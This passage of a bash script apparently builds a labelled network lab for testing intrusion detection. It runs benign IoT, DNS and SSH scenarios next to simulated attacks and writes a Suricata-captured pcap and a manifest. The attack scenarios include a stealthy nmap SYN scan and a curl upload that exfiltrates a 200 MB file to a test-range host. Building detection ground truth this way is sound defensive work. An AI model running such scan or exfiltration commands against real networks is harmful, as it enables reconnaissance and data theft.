scenario outbound-slow-scan i65 5 215 -- bash -c '( for i in $(seq 1 8); do sleep 20; exec 3>/dev/udp/198.18.0.$((100 + RANDOM % 150))/$((20000 + RANDOM % 40000)); echo -n "p2p hello" >&3; exec 3>&-; done ) &
    nmap -sS -Pn -n -p 23,2323,8080 --scan-delay 1s --max-hostgroup 4 --max-retries 0 --max-rtt-timeout 500ms --randomize-hosts -iL "$WORK/far-targets.txt"; rc=$?; wait; exit $rc'
label 192.168.50.65 attack outbound-slow-scan outbound-slow-scan outbound slow-scan,outbound-scan "nmap -sS -Pn -p 23,2323,8080 --scan-delay 1s --max-hostgroup 4 on 210 addresses of 198.18.0.0/24 + 8 UDP datagrams to random peers"
scenario exfiltration i66 60 90 -- bash -c 'for p in status config news; do curl -s -m 5 -o /dev/null "http://198.51.100.90/$p"; sleep 2; done
    curl -s -m 80 --limit-rate 25M -T "$WORK/exfil.bin" -o /dev/null -w "upload %{http_code} %{size_upload} bytes\n" http://198.51.100.90/upload/backup.tar'
label 192.168.50.66 attack exfiltration exfiltration outbound volume-anomaly "3 small GETs, then curl -T 200 MB http://198.51.100.90/upload/backup.tar"

# ---- benign
scenario cdn-browsing b31 10 120 -- bash -c 'for round in 1 2; do curl -sk -m 5 -o /dev/null https://www.lab/
    seq 1 48 | xargs -P 8 -I{} curl -sk -m 5 -o /dev/null https://cdn-{}.lab/lib.js; sleep 60; done; exit 0'
label 192.168.50.31 benign cdn-browsing cdn-browsing outbound "" "curl -k https://www.lab/ then https://cdn-1..48.lab/lib.js (8 parallel), twice 60 s apart"
for s in 1 2 3; do
    scenario "mqtt-sensor$s" "b3$((s + 1))" 5 185 -- bash -c "(while :; do echo \"{\\\"temp\\\":\$((18 + RANDOM % 8))}\"; sleep 5; done) |
        mosquitto_pub -h 198.51.100.83 -u sensor$s -P sens0r-pass-$s -i sensor$s -k 30 -t home/sensor$s -l"
    label "192.168.50.3$((s + 1))" benign mqtt-sensors "mqtt-sensor$s" outbound "" "mosquitto_pub -l -k 30 -t home/sensor$s (a reading every 5 s)"
done
scenario mqtt-subscriber b35 3 187 -- mosquitto_sub -h 198.51.100.83 -u dashboard -P dash-pass -i dashboard -k 30 -t 'home/#'
label 192.168.50.35 benign mqtt-sensors mqtt-subscriber outbound "" "mosquitto_sub -k 30 -t home/#"
scenario mqtt-reconnect-loop b36 5 185 -- bash -c 'end=$((SECONDS+180)); while [ $SECONDS -lt $end ]; do
    mosquitto_pub -h 198.51.100.83 -u smartplug -P stale-password -i plug-7 -t home/plug -m on; sleep 3; done; exit 0'
label 192.168.50.36 benign mqtt-reconnect-loop mqtt-reconnect-loop outbound "" "mosquitto_pub with a stale password every 3 s (refused, reconnects)"
for c in 37 38; do
    scenario "ntp-b$c" "b$c" $((c - 35)) 185 -- bash -c "end=\$((SECONDS+170)); while [ \$SECONDS -lt \$end ]; do
        chronyd -Q -u root -t 12 -f $work/chrony-b$c.conf; sleep 30; done; exit 0"
    label "192.168.50.$c" benign ntp "ntp-b$c" outbound "" "chronyd -Q (server 198.51.100.123) every 30 s"
done
scenario dns-lookups b39 4 185 -- bash -c 'end=$((SECONDS+175)); while [ $SECONDS -lt $end ]; do
    for q in "www.lab A" "api.cloud.lab A" "fw.vendor.lab AAAA" "ntp.lab A"; do python3 "$LAB/dnsq.py" 192.168.50.53 $q; done; sleep 10; done; exit 0'
label 192.168.50.39 benign dns dns-lookups internal "" "A/AAAA lookups of 4 names via 192.168.50.53 every 10 s"
label 192.168.50.53 benign home-resolver dnsmasq-home outbound "" "dnsmasq home resolver forwarding to 198.51.100.53 (t1.lab, t2.lab to the tunnel servers)"
scenario cloud-poll b45 3 185 -- bash -c 'for i in $(seq 1 6); do curl -s -m 5 -o /dev/null "http://198.51.100.80/v1/poll?device=thermostat-45"; sleep 30; done; exit 0'
label 192.168.50.45 benign cloud-poll cloud-poll outbound "" "curl http://198.51.100.80/v1/poll every 30 s"
scenario firmware-download b46 40 60 -- curl -sk -m 50 --limit-rate 10M -o /dev/null -w "firmware %{http_code} %{size_download} bytes\n" https://fw.vendor.lab/firmware.bin
label 192.168.50.46 benign firmware-download firmware-download outbound "" "curl -k https://fw.vendor.lab/firmware.bin (50 MB)"
scenario ssh-admin oadmin 20 150 -- bash -c 'for i in 1 2 3 4; do ssh -i "$WORK/admin_key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=5 root@192.168.50.20 "uptime; df -h / | tail -1"; rc=$?; [ $rc -eq 0 ] || exit $rc; sleep 30; done'
label 198.51.100.22 benign ssh-admin ssh-admin inbound "" "ssh -i admin_key root@192.168.50.20 uptime (4 logins, 30 s apart)"

log "all scenarios launched; waiting (at most ~4 minutes)"
wait_deadline=$(($(date +%s) + 260))
while :; do
    pending=0
    while IFS=$'\t' read -r _ _ _ run _; do
        [ "$run" = dnsmasq-home ] && continue
        [ -f "$work/rc/$run" ] || pending=$((pending + 1))
    done <"$work/sources.tsv"
    [ "$pending" -eq 0 ] && break
    [ "$(date +%s)" -ge "$wait_deadline" ] && { log "deadline reached with $pending scenario(s) still running"; break; }
    sleep 2
done
sleep 3 # last packets

# resolver health decides whether the home-resolver source "ran"
if ip netns pids sgl-h53 | grep -q .; then echo 0 >"$work/rc/dnsmasq-home"; else echo 1 >"$work/rc/dnsmasq-home"; fi

# ---------------------------------------------------------------- stop the capture
if [ "$capture" = suricata ]; then
    kill -INT "$sur_pid" 2>/dev/null || true
else
    kill -TERM "$sur_pid" 2>/dev/null || true
fi
for _ in $(seq 1 60); do kill -0 "$sur_pid" 2>/dev/null || break; sleep 1; done
wait "$sur_pid" 2>/dev/null || true
if [ "$capture" = suricata ]; then
    shopt -s nullglob
    pcaps=("$out"/log.pcap*)
    shopt -u nullglob
    if [ ${#pcaps[@]} -eq 1 ]; then
        mv "${pcaps[0]}" "$out/lab.pcap"
    else
        log "pcap-log wrote ${#pcaps[@]} files: ${pcaps[*]}"
        exit 1
    fi
    drops=$(grep -h '"event_type":"stats"' "$out/eve.json" | tail -1 | jq -c '.stats.capture // {}' 2>/dev/null || echo '{}')
    log "suricata stopped; capture counters: $drops"
else
    # tcpdump fallback: eve.json from a replay of the capture
    nsx mon suricata -c "$lab/suricata-lab.yaml" -l "$out" -r "$out/lab.pcap" -S /dev/null -k none \
        --set outputs.1.pcap-log.enabled=no >>"$out/logs/suricata-stdout.log" 2>&1 || log "suricata -r failed"
fi
log "lab.pcap $(stat -c %s "$out/lab.pcap") bytes"

# ---------------------------------------------------------------- manifest
for f in "$work"/rc/*; do printf '%s\t%s\n' "$(basename "$f")" "$(cat "$f")"; done >"$work/rc.tsv"
jq -n -R --arg version "$version" --arg capture "$capture" \
    --rawfile rcs "$work/rc.tsv" --rawfile src "$work/sources.tsv" '
    ($rcs | split("\n") | map(select(length > 0) | split("\t") | {(.[0]): (.[1] | tonumber)}) | add // {}) as $rc
    | {
        name: "real-tools-lab",
        made_by: "scripts/lab/real-tools.sh",
        version: $version,
        captured_by: $capture,
        captures: [{
            pcap: "lab.pcap",
            eve: "eve.json",
            home: ["192.168.50.0/24", "fd00:50::/64"],
            unlisted: "benign",
            sources: [
                $src | split("\n")[] | select(length > 0) | split("\t")
                | {ip: .[0], label: .[1], scenario: .[2], run: .[3], direction: .[4],
                   detectors: (.[5] | if . == "" then [] else split(",") end), tool: .[6],
                   exit_code: $rc[.[3]],
                   ran: ($rc[.[3]] == 0 or $rc[.[3]] == 124)}
                | if .detectors == [] then del(.detectors) else . end
            ]
        }]
    }' >"$out/manifest.json.tmp"
mv "$out/manifest.json.tmp" "$out/manifest.json"
log "done in $(($(date +%s) - started)) s: $(jq '.captures[0].sources | length' "$out/manifest.json") sources, $(jq '[.captures[0].sources[] | select(.ran | not)] | length' "$out/manifest.json") did not run cleanly"
